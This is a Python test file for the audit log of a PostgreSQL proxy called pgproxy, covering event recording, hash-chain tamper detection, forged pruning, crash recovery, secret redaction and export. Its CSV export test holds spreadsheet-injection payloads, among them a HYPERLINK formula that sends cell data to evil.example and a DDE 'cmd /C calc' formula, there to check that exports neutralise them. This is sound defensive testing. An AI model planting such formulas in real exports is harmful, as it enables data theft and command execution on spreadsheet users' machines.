"""The audit log end to end: events recorded from real traffic through the proxy, the chain
checked by `pgproxy audit verify` after tampering, restarts and kill -9, export and tail."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import asyncpg
import psycopg
import pytest

from pgproxy.audit import CSV_COLUMNS, AuditChainBroken, AuditLog, chain_hash, iso, verify
from pgproxy.config import AuditConfig, load_config
from pgproxy.pgcluster import PostgresCluster, free_port
from pgproxy.store.sqlite import SqliteStore
from tests import corpus
from tests.approvals_support import api, approvals_config, decide, reviewer_token, wait_pending
from tests.harness import JWT_SECRET, ProxyThread, make_token, running_proxy, write_enforce_config

AUDIT = """\
audit:
  flush_interval_seconds: 0.05
  sign_interval_seconds: 0.2
"""
SIGNING_KEY = "proxy-signing-key-0123456789abcdef0123"  # what approvals_config writes


def audited_config(pg: PostgresCluster, directory: Path, *, timeout: float = 30, audit: str = AUDIT) -> Path:
    return write_enforce_config(pg, directory, catalog=corpus.CATALOG,
                                extra=approvals_config(directory, timeout) + audit)


@pytest.fixture(scope="module")
def audited(pg: PostgresCluster, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ProxyThread]:
    with running_proxy(load_config(audited_config(pg, tmp_path_factory.mktemp("audit")))) as proxy:
        yield proxy


def events(proxy: ProxyThread) -> list[dict[str, Any]]:
    """Every stored event, after the proxy wrote what it had queued."""
    audit = proxy.server.audit
    assert audit is not None
    proxy.call(audit.flush())
    return stored_events(audit.config.store)


def stored_events(path: Path) -> list[dict[str, Any]]:
    with sqlite3.connect(path) as db:
        return [json.loads(body) for (body,) in db.execute("SELECT body FROM audit_events ORDER BY seq")]


def of(found: list[dict[str, Any]], type_: str, **match: Any) -> list[dict[str, Any]]:
    return [e for e in found if e["type"] == type_ and all(e.get(k) == v for k, v in match.items())]


def wait_for(proxy: ProxyThread, type_: str, **match: Any) -> dict[str, Any]:
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        found = of(events(proxy), type_, **match)
        if found:
            return found[-1]
        time.sleep(0.05)
    raise AssertionError(f"no {type_} event matching {match}")


def run_held(conn: psycopg.Connection[Any], sql: str) -> tuple[threading.Thread, list[Any]]:
    """Run `sql` in a thread (it is held); the list gets its rows or its exception."""
    outcome: list[Any] = []

    def run() -> None:
        try:
            cursor = conn.execute(sql)
            outcome.append(cursor.fetchall() if cursor.description else cursor.statusmessage)
        except psycopg.Error as exc:
            outcome.append(exc)

    worker = threading.Thread(target=run)
    worker.start()
    return worker, outcome


def audit_cli(*args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "pgproxy.cli", "audit", *args], capture_output=True, text=True,
                          timeout=timeout)


# --- events from real traffic -----------------------------------------------------------------


def test_allowed_and_denied_statements(audited: ProxyThread) -> None:
    allowed = "SELECT id, country FROM customers WHERE id = 42"
    with psycopg.connect(audited.dsn(), autocommit=True, application_name="audit-allowed") as conn:
        conn.execute(allowed).fetchall()
        with pytest.raises(psycopg.errors.InsufficientPrivilege):
            conn.execute("SELECT rolpassword FROM pg_authid")
    closed = wait_for(audited, "connection.closed", application_name="audit-allowed")
    found = of(events(audited), "statement", application_name="audit-allowed")
    assert [e["outcome"] for e in found] == ["allowed", "denied"]
    ok, denied = found
    assert {k: ok[k] for k in ("agent", "groups", "client_address", "database", "protocol", "kinds", "tables",
                               "action", "statement")} == {
        "agent": "agent", "groups": ["agents"], "client_address": "127.0.0.1", "database": "app",
        "protocol": "simple", "kinds": ["read"], "tables": ["public.customers"], "action": "allow",
        "statement": "SELECT id , country FROM customers WHERE id = ?"}
    assert ok["statement_sha256"] == hashlib.sha256(allowed.encode()).hexdigest()
    assert set(ok["columns_read"]) == {"public.customers.id", "public.customers.country"} and ok["tags"] == []
    assert ok["session"] == denied["session"] == closed["session"]
    assert denied["action"] == "deny" and denied["rule"] == "server-access" and "credentials" in denied["flags"]
    assert closed["statements"] == 2 and closed["ended_by"] == "client terminated"
    authenticated = of(events(audited), "connection.authenticated", session=ok["session"])
    assert authenticated and authenticated[0]["method"] == "jwt" and authenticated[0]["tls"] is False


def test_held_approved_and_the_catalog_refresh(audited: ProxyThread) -> None:
    with psycopg.connect(audited.dsn(), autocommit=True, application_name="audit-approved") as conn:
        worker, outcome = run_held(conn, "CREATE TABLE audit_approved_table (id int)")
        request = wait_pending(audited, "audit_approved_table")
        assert decide(audited, request, reason="migration 12")[0] == 200
        worker.join(15)
        assert not isinstance(outcome[0], Exception)
    event = wait_for(audited, "statement", application_name="audit-approved")
    assert (event["outcome"], event["action"], event["kinds"]) == ("approved", "review", ["ddl"])
    assert (event["approval_id"], event["reviewers"], event["decision_reason"]) == (request["id"], ["alice"],
                                                                                   "migration 12")
    assert event["statement_sha256"] == request["statement_sha256"] and event["wait_seconds"] > 0
    assert of(events(audited), "approval.requested", approval_id=request["id"])[0]["rule"] == request["rule"]
    decision = of(events(audited), "approval.decision", approval_id=request["id"])[0]
    assert (decision["reviewer"], decision["decision"], decision["outcome"], decision["via"]) == (
        "alice", "approve", "approved", "jwt")
    refreshed = wait_for(audited, "catalog.refreshed", database="app")
    assert refreshed["relations"] > 0 and refreshed["schema_version"]


def test_held_denied_and_the_refused_decisions(audited: ProxyThread) -> None:
    with psycopg.connect(audited.dsn(), autocommit=True, application_name="audit-denied") as conn:
        worker, outcome = run_held(conn, "SELECT email FROM customers WHERE id = 43")
        request = wait_pending(audited, "WHERE id = 43")
        path = f"/api/approvals/{request['id']}/decision"
        body = {"decision": "approve", "reason": "", "statement_sha256": request["statement_sha256"]}
        assert api(audited, "POST", path, body, reviewer_token(secret="forged-reviewer-secret-0123456789abc"))[0] \
            == 401
        assert api(audited, "POST", path, body, reviewer_token("agent"))[0] == 403  # self-approval
        assert decide(audited, request, sha="0" * 64)[0] == 409
        assert decide(audited, request, "deny", reason="not needed")[0] == 200
        assert decide(audited, request)[0] == 409  # replayed after the decision
        worker.join(15)
        assert isinstance(outcome[0], psycopg.errors.InsufficientPrivilege)
    event = wait_for(audited, "statement", application_name="audit-denied")
    assert (event["outcome"], event["reviewers"], event["decision_reason"]) == ("rejected", ["alice"], "not needed")
    assert event["tags"] == ["pii", "pii.email"] and "public.customers.email" in event["columns_read"]
    refused = of(events(audited), "approval.decision_refused", approval_id=request["id"])
    assert [(e["http_status"], e["reviewer"]) for e in refused] == [
        (401, None), (403, "agent"), (409, "alice"), (409, "alice")]
    assert "reviewer token refused" in refused[0]["reason"]
    assert "cannot decide its own request" in refused[1]["reason"]
    assert "statement_sha256 does not match" in refused[2]["reason"]
    assert "no longer pending" in refused[3]["reason"]


def test_expired_and_withdrawn(pg: PostgresCluster, tmp_path: Path) -> None:
    config = load_config(audited_config(pg, tmp_path, timeout=0.5))
    with running_proxy(config) as proxy, psycopg.connect(proxy.dsn(), autocommit=True,
                                                         application_name="audit-expired") as conn:
        with pytest.raises(psycopg.errors.QueryCanceled, match="expired"):
            conn.execute("SELECT ssn FROM customers WHERE id = 44")
        expired = wait_for(proxy, "statement", application_name="audit-expired")
        assert expired["outcome"] == "expired" and expired["approval_id"] and expired["reviewers"] == []
        assert expired["tags"] == ["pii", "pii.ssn", "sensitive"]


async def test_extended_protocol_and_refused_logins(audited: ProxyThread) -> None:
    conn = await asyncpg.connect(audited.dsn(), server_settings={"application_name": "audit-extended"})
    try:
        assert await conn.fetchval("SELECT count(*) FROM orders WHERE total > $1", 10) > 0
    finally:
        await conn.close()
    extended = [e for e in of(events(audited), "statement", application_name="audit-extended")
                if "orders" in e["statement"]]
    assert extended and extended[0]["protocol"] == "extended" and extended[0]["outcome"] == "allowed"
    forged = make_token(secret="not-the-proxy-secret-0123456789abcdef")
    for password in (forged, make_token(ttl=-300)):
        with pytest.raises(asyncpg.InvalidAuthorizationSpecificationError):
            await asyncpg.connect(audited.dsn(password=password, application_name="audit-refused"))
    refused = of(events(audited), "connection.refused", application_name="audit-refused")
    assert [(e["user"], e["sqlstate"], e["stage"]) for e in refused] == [("agent", "28P01", "authenticating")] * 2
    assert "invalid signature" in refused[0]["reason"] and "expired" in refused[1]["reason"]


def test_result_guard_refusal_is_recorded(audited: ProxyThread, monkeypatch: pytest.MonkeyPatch) -> None:
    from pgproxy.analysis.references import References
    from pgproxy.enforce import PolicyGate

    gate = audited.server.gate
    assert isinstance(gate, PolicyGate)
    monkeypatch.setattr(References, "read_all", lambda self, relation: None)  # the analysis misses the star
    gate.cache.clear()
    with (psycopg.connect(audited.dsn(), autocommit=True, application_name="audit-guard") as conn,
          pytest.raises(psycopg.errors.InsufficientPrivilege, match="refused a result")):
        conn.execute("SELECT * FROM customers WHERE id = 45")
    event = wait_for(audited, "result.refused", application_name="audit-guard")
    assert "public.customers.email" in event["columns"] and event["agent"] == "agent"
    gate.cache.clear()


def test_no_secret_and_no_literal_in_the_audit_log(audited: ProxyThread, tmp_path: Path) -> None:
    token = make_token()
    literals = ("canary-allowed-7731", "canary-held-4417@example.com", "canary-param-9902")
    with psycopg.connect(audited.dsn(password=token), autocommit=True, application_name="audit-canary") as conn:
        conn.execute(f"SELECT id FROM orders WHERE status = '{literals[0]}'").fetchall()
        worker, _ = run_held(conn, f"SELECT id FROM customers WHERE email = '{literals[1]}'")
        decide(audited, wait_pending(audited, "canary-held"), reason="ok")
        worker.join(15)
        conn.execute("SELECT id FROM orders WHERE status = %s", (literals[2],), prepare=True).fetchall()
    with pytest.raises(psycopg.OperationalError):
        psycopg.connect(audited.dsn(password="wrong-password-canary"), autocommit=True)
    user_token = make_token("token-as-user-name")  # an agent that put its token in the user name
    with pytest.raises(psycopg.OperationalError, match="redacted: looks like a token"):
        psycopg.connect(audited.dsn(user=user_token, password="x"), autocommit=True)
    wait_for(audited, "connection.refused", user="<redacted: looks like a token>")
    wait_for(audited, "connection.closed", application_name="audit-canary")
    config = audited.server.config
    assert config.audit is not None and config.source is not None
    out = tmp_path / "export.jsonl"
    assert audit_cli("export", "--config", str(config.source), "--output", str(out)).returncode == 0
    with sqlite3.connect(config.audit.store) as db:
        stored = "\n".join(str(v) for table in ("audit_events", "audit_heads")
                           for row in db.execute(f"SELECT * FROM {table}") for v in row)
    secrets = (token, reviewer_token(), JWT_SECRET, SIGNING_KEY, "scram-pass", "wrong-password-canary",
               user_token, user_token.split(".")[2])
    for text in (stored, out.read_text()):
        assert "audit-canary" in text  # the events are there…
        for value in (*literals, *secrets):
            assert value not in text  # …without a literal or a secret
        assert token.split(".")[2] not in text


# --- the chain ---------------------------------------------------------------------------------


def _config(path: Path, **overrides: Any) -> AuditConfig:
    return AuditConfig(signing_key=SIGNING_KEY, store=path, **overrides)


async def _written_log(path: Path, count: int = 30) -> AuditLog:
    audit = AuditLog(_config(path))
    await audit.start({"mode": "test"})
    for n in range(count):
        audit.record("statement", {"n": n})
        if n % 10 == 9:
            await audit.flush()
            await audit.sign()
    await audit.close()
    return audit


def _edit(path: Path, *statements: str) -> None:
    with sqlite3.connect(path) as db:
        for statement in statements:
            db.execute(statement)


async def test_tampering_is_detected_and_named(tmp_path: Path) -> None:
    original = tmp_path / "audit.sqlite3"
    await _written_log(original)
    store = SqliteStore(original)
    clean = await verify(store, SIGNING_KEY)
    await store.close()
    assert clean.problem is None and (clean.first_seq, clean.last_seq) == (1, 32) and clean.heads >= 3
    cases = {
        "edited": (["UPDATE audit_events SET body = replace(body, '\"n\":7', '\"n\":8') WHERE seq = 9"],
                   "event 9 (statement at"),
        "deleted": (["DELETE FROM audit_events WHERE seq = 12"], "event 12 is missing"),
        "reordered": (["UPDATE audit_events SET seq = -1 WHERE seq = 15",
                       "UPDATE audit_events SET seq = 15 WHERE seq = 16",
                       "UPDATE audit_events SET seq = 16 WHERE seq = -1"],
                      "the event stored as event 15 says it is event 16"),
        "first deleted": (["DELETE FROM audit_events WHERE seq = 1"],
                          "event 1 is missing: the log starts at event 2 and no audit.pruned event accounts"),
        "start deleted": (["DELETE FROM audit_events WHERE seq <= 5"],
                          "events 1-5 are missing: the log starts at event 6 and no audit.pruned event accounts"),
        "tail cut": (["DELETE FROM audit_events WHERE seq > 25"], "a head was signed for event 32"),
        "head forged": (["UPDATE audit_heads SET signature = signature || 'x'"], "invalid signature"),
        "time edited": (["UPDATE audit_events SET time = time + 60 WHERE seq = 5"], "event 5 (statement at"),
    }
    for name, (statements, expected) in cases.items():
        copy = tmp_path / f"{name}.sqlite3"
        shutil.copy(original, copy)
        _edit(copy, *statements)
        store = SqliteStore(copy)
        found = await verify(store, SIGNING_KEY)
        await store.close()
        assert found.problem is not None and expected in found.problem, (name, found.problem)


async def test_a_rewritten_chain_is_caught_by_the_signed_heads(tmp_path: Path) -> None:
    path = tmp_path / "audit.sqlite3"
    await _written_log(path)
    with sqlite3.connect(path) as db:
        rows = db.execute("SELECT seq, body, hash FROM audit_events ORDER BY seq").fetchall()
        previous = rows[13][2]
        for seq, body, _ in rows[14:]:  # event 15 edited, and every hash after it recomputed
            if seq == 15:
                body = body.replace('"n":', '"n":1')
            previous = chain_hash(previous, body)
            db.execute("UPDATE audit_events SET body = ?, hash = ? WHERE seq = ?", (body, previous, seq))
    store = SqliteStore(path)
    found = await verify(store, SIGNING_KEY)
    await store.close()
    assert found.problem is not None and "the chain was rewritten" in found.problem
    assert "comes after event 11" in found.problem  # the last head that still matched


async def _pruned_log(path: Path) -> None:
    """A log whose retention pruned all but its newest events (33, the second proxy.started, on)."""
    await _written_log(path)
    audit = AuditLog(_config(path, retention_days=1))
    await audit.start({"mode": "test"})
    pruned = await audit.prune(now=time.time() + 2 * 86400)  # everything is now older than a day
    await audit.close()
    assert pruned == 32


async def _verified(path: Path, *, retention: bool = True) -> str | None:
    store = SqliteStore(path)
    try:
        return (await verify(store, SIGNING_KEY, retention=retention)).problem
    finally:
        await store.close()


async def test_pruning_keeps_the_chain_verifiable(tmp_path: Path) -> None:
    path = tmp_path / "audit.sqlite3"
    await _pruned_log(path)
    store = SqliteStore(path)
    found = await verify(store, SIGNING_KEY, retention=True)
    await store.close()
    assert found.problem is None and found.first_seq == 33, found.describe()
    assert "events 1-32 pruned by retention" in found.describe()
    anchor = of(stored_events(path), "audit.pruned")[0]
    assert anchor["pruned_through_seq"] == 32 and anchor["pruned_events"] == 32
    # Retention goes on: a second prune leaves a chain that verifies, and a restart continues it.
    audit = AuditLog(_config(path, retention_days=1))
    await audit.start({"mode": "test"})
    audit.record("statement", {"n": "after"})
    assert await audit.prune(now=time.time() + 4 * 86400) > 0
    await audit.close()
    assert await _verified(path) is None
    _edit(path, "DELETE FROM audit_events WHERE type = 'audit.pruned'")
    problem = await _verified(path)
    assert problem is not None and "no audit.pruned event accounts for them" in problem


def _forge_pruning(path: Path, keep_from: int, *, keep_heads: bool = False) -> None:
    """What someone with write access to the file but not the key can do: delete the events
    before `keep_from` (and, unless `keep_heads`, their signed heads) and append an
    audit.pruned event saying retention removed them, chained by the public rule."""
    with sqlite3.connect(path) as db:
        last_hash = db.execute("SELECT hash FROM audit_events WHERE seq = ?", (keep_from - 1,)).fetchone()[0]
        newest, previous = db.execute("SELECT seq, hash FROM audit_events ORDER BY seq DESC LIMIT 1").fetchone()
        db.execute("DELETE FROM audit_events WHERE seq < ?", (keep_from,))
        if not keep_heads:
            db.execute("DELETE FROM audit_heads WHERE seq < ?", (keep_from,))
        now = time.time()
        body = (f'{{"seq":{newest + 1},"time":"{iso(now)}","type":"audit.pruned","pruned_through_seq":'
                f'{keep_from - 1},"pruned_last_hash":"{last_hash}","pruned_events":{keep_from - 1},'
                f'"before":"{iso(now - 86400)}"}}')
        db.execute("INSERT INTO audit_events VALUES (?, ?, ?, ?, ?)",
                   (newest + 1, now, "audit.pruned", body, chain_hash(previous, body)))


async def test_a_forged_pruning_anchor_does_not_verify(tmp_path: Path) -> None:
    """Only the key makes an audit.pruned event count: deleting events and appending an anchor
    that says retention pruned them fails, whatever else the forger keeps or deletes."""
    original = tmp_path / "audit.sqlite3"
    await _written_log(original)  # events 1-32; heads at 11, 21, 31 and 32
    cases = {
        "all but the newest deleted": (dict(keep_from=32), "events 1-31 are missing: the log starts at event 32; "
                                       "event 33 (audit.pruned at"),
        "all deleted": (dict(keep_from=33), "events 1-32 are missing: the log starts at event 33; event 33 "
                        "(audit.pruned at"),
        "heads kept, events deleted": (dict(keep_from=25, keep_heads=True),
                                       "events 1-24 are missing: the log starts at event 25, yet the head signed "
                                       "for event 21 is still there: they were deleted, not pruned"),
    }
    for name, (forgery, expected) in cases.items():
        copy = tmp_path / f"{name}.sqlite3"
        shutil.copy(original, copy)
        _forge_pruning(copy, **forgery)  # type: ignore[arg-type]
        problem = await _verified(copy)
        assert problem is not None and expected in problem, (name, problem)
        if "yet the head" not in expected:
            assert "is not covered by a signed head" in problem and "not written by pgproxy" in problem, problem
    copy = tmp_path / "no retention.sqlite3"
    shutil.copy(original, copy)
    _forge_pruning(copy, keep_from=32)
    problem = await _verified(copy, retention=False)
    assert problem is not None and "retention is not configured (audit.retention_days)" in problem, problem


async def test_a_real_pruning_anchor_needs_retention_configured(tmp_path: Path) -> None:
    path = tmp_path / "audit.sqlite3"
    await _pruned_log(path)
    assert await _verified(path) is None
    problem = await _verified(path, retention=False)
    assert problem is not None and problem.startswith(
        "events 1-32 are missing: the log starts at event 33; event 34 (audit.pruned at"), problem
    assert "says retention pruned them, but retention is not configured" in problem


async def test_events_a_crashed_run_never_signed_are_named(tmp_path: Path) -> None:
    """Events written after the last signed head by a run that then died rest on the chain
    alone (someone with the file could have appended them): verify still passes, and says which."""
    path = tmp_path / "audit.sqlite3"
    await _written_log(path)  # events 1-32, signed through 32
    crashed = AuditLog(_config(path))
    await crashed.start({"mode": "test"})  # event 33
    for n in range(3):
        crashed.record("statement", {"n": n})  # events 34-36
    await crashed.flush()
    await crashed.store.close()  # no proxy.stopped, no signature: as after kill -9
    restarted = AuditLog(_config(path))
    await restarted.start({"mode": "test"})
    await restarted.close()
    started = of(stored_events(path), "proxy.started")[-1]
    assert (started["previous_stop"], started["previous_seq"], started["previous_signed_seq"]) == ("unclean", 36, 32)
    store = SqliteStore(path)
    found = await verify(store, SIGNING_KEY)
    await store.close()
    assert found.problem is None, found.problem
    assert "; events 33-36 were never signed by the run that wrote them" in found.describe(), found.describe()


async def test_a_restart_does_not_sign_over_a_forged_chain(tmp_path: Path, pg: PostgresCluster) -> None:
    """The proxy refuses to start on a log it cannot vouch for, and signs nothing: the forgery
    stays visible to `verify`, and `pgproxy run` says why it did not start."""
    path = tmp_path / "approvals.sqlite3"
    await _written_log(path)
    pristine = tmp_path / "pristine.sqlite3"
    shutil.copy(path, pristine)
    _forge_pruning(path, keep_from=32)
    audit = AuditLog(_config(path, retention_days=1))
    with pytest.raises(AuditChainBroken, match=r"event 33 \(audit.pruned at .* is not covered by a signed head"):
        await audit.start({"mode": "test"})
    await audit.store.close()
    assert [e["seq"] for e in stored_events(path)] == [32, 33]  # nothing recorded, nothing signed
    config = audited_config(pg, tmp_path, audit=AUDIT + "  retention_days: 30\n")
    result = subprocess.run([sys.executable, "-m", "pgproxy.cli", "run", "--config", str(config)],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 1
    assert f"pgproxy: audit log {path} does not follow its last signed head, so pgproxy will not continue it" \
        in result.stderr, result.stderr
    assert "move it aside to start a new log" in result.stderr
    failed = audit_cli("verify", "--config", str(config))
    assert failed.returncode == 1 and "is not covered by a signed head" in failed.stdout, failed.stdout
    for tampered, expected in (("DELETE FROM audit_events WHERE seq >= 32", "event 32, whose head was signed at"),
                               ("DELETE FROM audit_heads", "event 1 is missing")):  # then the log must start at 1
        copy = tmp_path / "copy.sqlite3"
        shutil.copy(pristine, copy)
        _edit(copy, "DELETE FROM audit_events WHERE seq = 1", tampered)
        audit = AuditLog(_config(copy))
        with pytest.raises(AuditChainBroken, match=expected):
            await audit.start({"mode": "test"})
        await audit.store.close()
        copy.unlink()


def test_restart_continues_the_chain(pg: PostgresCluster, tmp_path: Path) -> None:
    path = audited_config(pg, tmp_path)
    for run in range(2):
        with running_proxy(load_config(path)) as proxy, psycopg.connect(proxy.dsn(), autocommit=True) as conn:
            conn.execute(f"SELECT {run} FROM orders LIMIT 1").fetchall()
    stored = stored_events(tmp_path / "approvals.sqlite3")
    assert [e["previous_stop"] for e in of(stored, "proxy.started")] == ["first", "clean"]
    assert len(of(stored, "proxy.stopped")) == 2 and len(of(stored, "statement")) >= 2
    result = audit_cli("verify", "--config", str(path))
    assert result.returncode == 0 and "audit log verified: events 1-" in result.stdout, result.stdout


def test_kill_9_during_traffic_leaves_a_verifiable_log(pg: PostgresCluster, tmp_path: Path) -> None:
    path = audited_config(pg, tmp_path)
    port = free_port()
    # The proxy's own port is fixed, so that it is the same after the restart (the web app's stays 0).
    path.write_text(path.read_text().replace("\nlisten: {host: 127.0.0.1, port: 0}",
                                             f"\nlisten: {{host: 127.0.0.1, port: {port}}}", 1))

    def start() -> subprocess.Popen[bytes]:
        process = subprocess.Popen([sys.executable, "-m", "pgproxy.cli", "run", "--config", str(path)],
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 30
        while True:
            try:
                psycopg.connect(dsn, connect_timeout=2).close()
                return process
            except psycopg.OperationalError:
                assert time.monotonic() < deadline and process.poll() is None
                time.sleep(0.1)

    dsn = f"postgresql://agent:{make_token(ttl=3600)}@127.0.0.1:{port}/app?sslmode=disable"
    process = start()
    stop = threading.Event()
    sent: list[int] = []

    def traffic() -> None:
        try:
            with psycopg.connect(dsn, autocommit=True) as conn:
                while not stop.is_set():
                    conn.execute("SELECT id FROM orders WHERE id = %s", (len(sent) % 100 + 1,)).fetchall()
                    sent.append(1)
        except psycopg.Error:
            pass  # the proxy was killed under it

    worker = threading.Thread(target=traffic)
    worker.start()
    # Killed mid-traffic, once some statements are in the log (a flush interval may pass first).
    deadline = time.monotonic() + 30
    while len(sent) < 300 or not of(stored_events(tmp_path / "approvals.sqlite3"), "statement"):
        assert time.monotonic() < deadline and worker.is_alive()
        time.sleep(0.02)
    os.kill(process.pid, signal.SIGKILL)
    process.wait(10)
    stop.set()
    worker.join(15)
    result = audit_cli("verify", "--config", str(path))
    assert result.returncode == 0, result.stdout + result.stderr
    written = of(stored_events(tmp_path / "approvals.sqlite3"), "statement")
    assert 0 < len(written) <= len(sent) + 1  # what was written; at most the last batch lost
    process = start()
    try:
        started = of(stored_events(tmp_path / "approvals.sqlite3"), "proxy.started")
        assert [e["previous_stop"] for e in started] == ["first", "unclean"]
    finally:
        process.send_signal(signal.SIGTERM)
        process.wait(20)
    assert audit_cli("verify", "--config", str(path)).returncode == 0


def test_audit_log_that_cannot_be_written_holds_statements_then_refuses(pg: PostgresCluster,
                                                                         tmp_path: Path) -> None:
    slow = AUDIT + "  queue_events: 100\n  queue_full_wait_seconds: 0.5\n"
    config = load_config(audited_config(pg, tmp_path, audit=slow))
    store = tmp_path / "approvals.sqlite3"
    with running_proxy(config) as proxy, psycopg.connect(proxy.dsn(), autocommit=True,
                                                         application_name="audit-locked") as conn:
        events(proxy)
        blocker = sqlite3.connect(store, isolation_level=None)
        blocker.execute("BEGIN EXCLUSIVE")  # the audit writer can no longer write
        ran = 0
        with pytest.raises(psycopg.errors.SystemError, match="cannot record this statement in its audit log"):
            for _ in range(150):  # unprepared: each is judged, and recorded, anew
                conn.execute("SELECT id FROM orders WHERE id = 1", prepare=False).fetchall()
                ran += 1
        assert 90 <= ran < 150  # the queue filled; then statements waited and were refused
        blocker.execute("ROLLBACK")
        blocker.close()
        deadline = time.monotonic() + 30
        while True:  # once the writer catches up, statements run again
            try:
                conn.execute("SELECT 1").fetchall()
                break
            except psycopg.errors.SystemError:
                assert time.monotonic() < deadline
                time.sleep(0.2)
        recorded = of(events(proxy), "statement", application_name="audit-locked")
        assert sum(e["outcome"] == "allowed" for e in recorded) == ran + 1  # none of what ran was lost
    assert audit_cli("verify", "--config", str(config.source)).returncode == 0


# --- export and tail --------------------------------------------------------------------------------


def test_export_round_trip(audited: ProxyThread, tmp_path: Path) -> None:
    with psycopg.connect(audited.dsn(), autocommit=True, application_name="audit-export") as conn:
        conn.execute("SELECT count(*) FROM orders").fetchall()
    wait_for(audited, "connection.closed", application_name="audit-export")
    config = audited.server.config
    assert config.source is not None
    jsonl, table = tmp_path / "audit.jsonl", tmp_path / "audit.csv"
    for out, fmt in ((jsonl, "jsonl"), (table, "csv")):
        result = audit_cli("export", "--config", str(config.source), "--format", fmt, "--output", str(out))
        assert result.returncode == 0, result.stderr
    lines = jsonl.read_text().splitlines()
    parsed = [json.loads(line) for line in lines]
    assert [e["seq"] for e in parsed] == list(range(1, len(parsed) + 1))
    previous = "0" * 64
    for line, event in zip(lines, parsed, strict=True):  # the evidence re-verifies on its own
        body = line[:line.rindex(',"prev":')] + "}"
        assert event["prev"] == previous and chain_hash(previous, body) == event["hash"]
        previous = event["hash"]
    with table.open(newline="") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
        rows = list(reader)
    assert [int(r["seq"]) for r in rows] == [e["seq"] for e in parsed]
    exported = [r for r in rows if r["type"] == "statement" and r["application_name"] == "audit-export"]
    assert exported[0]["statement"] == "SELECT count ( * ) FROM orders" and exported[0]["tables"] == "public.orders"
    window = audit_cli("export", "--config", str(config.source), "--since", "2000-01-01", "--until", "2000-01-02")
    assert window.returncode == 0 and window.stdout == ""
    recent = audit_cli("export", "--config", str(config.source), "--since", "1h")
    assert len(recent.stdout.splitlines()) == len(lines) or len(recent.stdout.splitlines()) > len(lines)
    bad = audit_cli("export", "--config", str(config.source), "--since", "yesterday")
    assert bad.returncode == 2 and "neither an ISO 8601 time" in bad.stderr


async def test_csv_export_is_inert_in_a_spreadsheet(pg: PostgresCluster, tmp_path: Path) -> None:
    """Cells a spreadsheet would run as a formula (OWASP's prefixes and their full-width forms)
    are exported with a leading apostrophe; other cells are exported as they are."""
    config = audited_config(pg, tmp_path)
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
                "@SUM(1,1)", "\t=1+1", "\r=1+1", "\uff1dHYPERLINK(1)", "\uff0b1", "\uff0d1", "\uff20SUM(1)"]
    audit = AuditLog(_config(tmp_path / "approvals.sqlite3"))
    await audit.start({"mode": "test"})
    for value in formulas:
        audit.record("statement", {"application_name": value, "statement": value, "tables": [value, "t"],
                                   "user": value})
    audit.record("statement", {"application_name": "plain-app", "statement": "SELECT a - b", "wait_seconds": 1.5})
    await audit.close()
    out = tmp_path / "audit.csv"
    result = audit_cli("export", "--config", str(config), "--format", "csv", "--output", str(out))
    assert result.returncode == 0, result.stderr
    with out.open(newline="", encoding="utf-8") as f:
        rows = [r for r in csv.DictReader(f) if r["type"] == "statement"]
    assert [r["application_name"] for r in rows] == [f"'{v}" for v in formulas] + ["plain-app"]
    assert [r["statement"] for r in rows] == [f"'{v}" for v in formulas] + ["SELECT a - b"]
    assert [r["tables"] for r in rows[:-1]] == [f"'{v};t" for v in formulas]
    assert json.loads(rows[0]["details"]) == {"user": formulas[0]}  # JSON: starts with '{'
    assert rows[-1]["wait_seconds"] == "1.5"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
                       for cell in row.values()), row


def test_tail_follows_new_events(audited: ProxyThread) -> None:
    config = audited.server.config
    assert config.source is not None
    tail = subprocess.Popen([sys.executable, "-m", "pgproxy.cli", "audit", "tail", "--config", str(config.source),
                             "-n", "1"], stdout=subprocess.PIPE, text=True)
    try:
        assert tail.stdout is not None
        json.loads(tail.stdout.readline())  # the newest event first
        with psycopg.connect(audited.dsn(), autocommit=True, application_name="audit-tail") as conn:
            conn.execute("SELECT 'tail' FROM orders LIMIT 1").fetchall()
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            event = json.loads(tail.stdout.readline())
            if event.get("application_name") == "audit-tail" and event["type"] == "statement":
                break
        else:
            raise AssertionError("tail did not show the new statement")
    finally:
        tail.kill()
        tail.wait(10)


def test_audit_cli_errors(tmp_path: Path, pg: PostgresCluster) -> None:
    path = audited_config(pg, tmp_path)
    result = audit_cli("verify", "--config", str(path))
    assert result.returncode == 2 and "no audit log at" in result.stderr
    path.write_text(path.read_text().replace("audit:\n", "audit:\n  enabled: false\n"))
    result = audit_cli("verify", "--config", str(path))
    assert result.returncode == 2 and "has no audit log" in result.stderr


def test_run_refuses_to_start_without_a_writable_audit_log(tmp_path: Path, pg: PostgresCluster) -> None:
    (tmp_path / "not-a-file").mkdir()
    path = audited_config(pg, tmp_path, audit="audit:\n  store: not-a-file\n")
    result = subprocess.run([sys.executable, "-m", "pgproxy.cli", "run", "--config", str(path)],
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 1
    assert f"pgproxy: store {tmp_path / 'not-a-file'}: unable to open database file" in result.stderr


def test_bytes_that_are_not_utf8_cannot_stop_the_audit_log(pg: PostgresCluster, tmp_path: Path) -> None:
    """A startup packet whose user name is not UTF-8 (refused), and an agent whose
    application_name is not either: both are recorded with the bytes escaped visibly, and the
    1,000 statements after them are all stored and verify."""
    from pgproxy.wire import messages as m
    from tests.harness import RawClient

    config = load_config(audited_config(pg, tmp_path))
    with running_proxy(config) as proxy:
        with RawClient(proxy.port) as client:  # refused before any authentication
            client.send(m.StartupMessage({"user": "ev\udcffil", "database": "app"}).encode())
            client.read_message()
            client.send(m.PasswordMessage("not-a-token").encode())
            client.until_ready()
        with RawClient(proxy.port) as client:  # an authenticated agent
            client.login(application_name="app\udcfe\udcff")
            client.send(m.Query("SELECT 1").encode())
